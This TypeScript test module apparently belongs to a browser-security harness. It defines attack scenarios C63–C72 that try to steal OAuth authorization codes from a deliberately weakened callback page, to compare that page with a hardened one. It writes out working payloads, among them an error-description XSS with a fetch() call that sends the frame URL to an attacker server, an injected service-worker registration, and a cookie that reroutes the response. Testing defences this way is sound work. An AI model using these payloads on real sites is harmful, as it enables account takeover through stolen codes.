import type { Attack, Spoils } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { PLAIN_PAGE } from '../site.ts';
import { comesTrue } from '../until.ts';
import { type CallbackFault, OTHER_DOCUMENT, OTHER_SCRIPT, POST_ON_COOKIE } from '../weak-callback.ts';
import { watchOpened } from './popup.ts';
import { authorizeUrl, clickUntilSeen, endWorker } from './run-own-flow.ts';

/** Breaks the callback of the naive victim in one way while an attack runs; Tokenward's stays as it is. */
export function breaking(
  fault: CallbackFault,
  { act, ...attack }: Pick<Attack, 'id' | 'title' | 'ruins' | 'notIn' | 'act'>,
): Attack {
  return {
    scenario: '5.1.3',
    naive: 'weak-callback',
    tokenward: 'isolated',
    ...attack,
    act: async (scene) => {
      scene.site.breakCallback?.(fault);
      try {
        return await act(scene);
      } finally {
        scene.site.breakCallback?.(undefined);
      }
    },
  };
}

/** Does something, and waits until the attacker's server has been sent a code, which the detector finds there. */
async function sendCode({ servers: { foreign }, timeoutMs }: Scene, act: () => Promise<unknown>): Promise<Spoils> {
  const before = foreign.requests.length;
  await act();
  // As a parameter of the path or of a form, also where a whole URL is a parameter itself.
  const hasCode = (text: string): boolean => /code(=|%3D)/.test(text);
  await comesTrue(
    async () => foreign.requests.slice(before).some(({ path, body }) => hasCode(path) || hasCode(body)),
    timeoutMs,
  );
  return { seen: [] };
}

/** Runs a flow in the attacker's own tab, and waits until it is back at the app. */
async function comeBack(scene: Scene, parameters: Readonly<Record<string, string>> = {}): Promise<void> {
  const { tab, site, timeoutMs } = scene;
  await tab.goto(authorizeUrl(scene, parameters)).catch(() => {});
  const isBack = (own: string): boolean => location.origin === own && document.readyState === 'complete';
  await comesTrue(() => tab.evaluate(isBack, site.origin), timeoutMs);
}

/** Paths at which the origin of the callback has something. */
function onCallbackOrigin({ site }: Scene, path: string, query: Readonly<Record<string, string>>): string {
  return `${new URL(path, site.redirectUri).href}?${new URLSearchParams(query)}`;
}

/** Names the attacker's server to the app's own, as where the response is to go. */
async function setCookie({ tab, servers }: Scene): Promise<void> {
  await tab.evaluate(
    (cookie) => {
      document.cookie = cookie;
    },
    `${POST_ON_COOKIE}=${encodeURIComponent(`${servers.foreign.origin}/take`)}; path=/`,
  );
}

/** Attacks on what an isolated callback depends on; each breaks the naive victim in another way. */
export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
  breaking('mixes sources', {
    id: 'C63',
    title: 'runs a flow with a fragment that the redirects carry along, and names a server of its own there',
    act: async (scene) => {
      const action = new URLSearchParams({ action: `${scene.servers.foreign.origin}/take` });
      return sendCode(scene, () => scene.tab.goto(`${authorizeUrl(scene)}#${action}`).catch(() => {}));
    },
  }),
  breaking('allows other origins', {
    id: 'C64',
    title: 'fetches the authorization endpoint of a server with CORS, and reads the URL where the redirects end',
    act: async (scene) => {
      const { authorizationServer } = scene.servers;
      authorizationServer.configure({ authorizationCors: 'allowed' });
      try {
        // A browser's own message in the console names the URL that it has refused; no script can read that.
        const tab = await scene.openTab();
        await tab.goto(scene.site.origin + PLAIN_PAGE);
        return { seen: await tab.evaluate(readFinalUrl, authorizeUrl(scene)) };
      } finally {
        authorizationServer.configure({ authorizationCors: 'refused' });
      }
    },
  }),
  {
    id: 'C65',
    title: 'runs a flow in its own tab with a redirect URI that the app had before, on its own origin',
    scenario: '5.1.3',
    naive: 'weak-callback',
    tokenward: 'isolated',
    act: async (scene) => {
      await comeBack(scene, { redirect_uri: scene.site.origin + PLAIN_PAGE });
      return { seen: await scene.tab.evaluate(() => location.href) };
    },
  },
  breaking('redirects to the app', {
    id: 'C66',
    title: 'runs a flow in its own tab, with the response in the fragment, which redirects carry along to the app',
    act: async (scene) => {
      await comeBack(scene, { response_mode: 'fragment' });
      return { seen: await scene.tab.evaluate(() => location.href) };
    },
  }),
  breaking('serves more', {
    id: 'C67',
    title: 'runs script in another document of the callback’s origin, and registers a worker there',
    ruins: 'naive profile',
    act: async (scene) => {
      const { tab, servers, timeoutMs } = scene;
      const script = `navigator.serviceWorker.register('${OTHER_SCRIPT}?to=${servers.foreign.origin}')`;
      const text = `<script>${script}.then(() => navigator.serviceWorker.ready).then(() => (document.title = 'there'))</script>`;
      await tab.goto(onCallbackOrigin(scene, OTHER_DOCUMENT, { text }));
      if (!(await comesTrue(() => tab.evaluate(() => document.title === 'there'), timeoutMs))) return { seen: [] };
      return sendCode(scene, () => tab.goto(authorizeUrl(scene)).catch(() => {}));
    },
  }),
  breaking('shows a parameter', {
    id: 'C68',
    title: 'puts a script into the description of an error, and runs a flow in a frame of the callback’s document',
    act: async (scene) => {
      const { foreign } = scene.servers;
      const look = `fetch('${foreign.origin}/take?' + encodeURIComponent(this.contentWindow.location.href))`;
      const frame = `<iframe src="${authorizeUrl(scene).replaceAll('&', '&amp;')}" onload="${look}"></iframe>`;
      const url = onCallbackOrigin(scene, '', { error: 'access_denied', error_description: frame });
      return sendCode(scene, () => scene.tab.goto(url));
    },
  }),
  breaking('tells its URL', {
    id: 'C69',
    title: 'runs a flow in its own tab, and reads the referrer of the page of the app that comes after it',
    notIn: { webkit: 'tells a page of another origin no more than the origin it came from' },
    act: async (scene) => {
      await comeBack(scene);
      return { seen: await scene.tab.evaluate(() => document.referrer) };
    },
  }),
  breaking('repeats the response', {
    id: 'C70',
    title: 'unregisters the worker, runs a flow in a pop-up, and reads the reply of the app’s server to the response',
    ruins: 'profiles',
    act: async (scene) => {
      await endWorker(scene);
      return { seen: await watchOpened(scene, { opens: authorizeUrl(scene) }) };
    },
  }),
  breaking('posts the response on', {
    id: 'C71',
    title: 'unregisters the worker, and has the app’s server post the response on to a server of its own',
    ruins: 'profiles',
    act: async (scene) => {
      await endWorker(scene);
      await setCookie(scene);
      return sendCode(scene, () => scene.tab.goto(authorizeUrl(scene)).catch(() => {}));
    },
  }),
  breaking('posts the response on', {
    id: 'C72',
    title: 'runs a flow in a sandboxed pop-up, past the worker, and has the app’s server post the response on',
    ruins: 'naive profile',
    act: async (scene) => {
      const { tab, site } = scene;
      await tab.goto(site.origin + PLAIN_PAGE);
      await setCookie(scene);
      await tab.evaluate((url) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts allow-forms allow-popups');
        frame.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; border: 0';
        frame.srcdoc = `<body><script>onclick = () => parent.postMessage(open(${JSON.stringify(url)}) ? 'opened' : 'refused', '*')</script>`;
        window.addEventListener('message', () => (document.documentElement.dataset['clicked'] = 'yes'));
        document.body.append(frame);
      }, authorizeUrl(scene));
      return sendCode(scene, () => clickUntilSeen(scene));
    },
  }),
];

/** Runs in the page: follows the redirects of a request, and gives the URL where they end. */
async function readFinalUrl(url: string): Promise<string> {
  return fetch(url, { credentials: 'include' }).then(
    (answer) => answer.url,
    () => 'refused',
  );
}
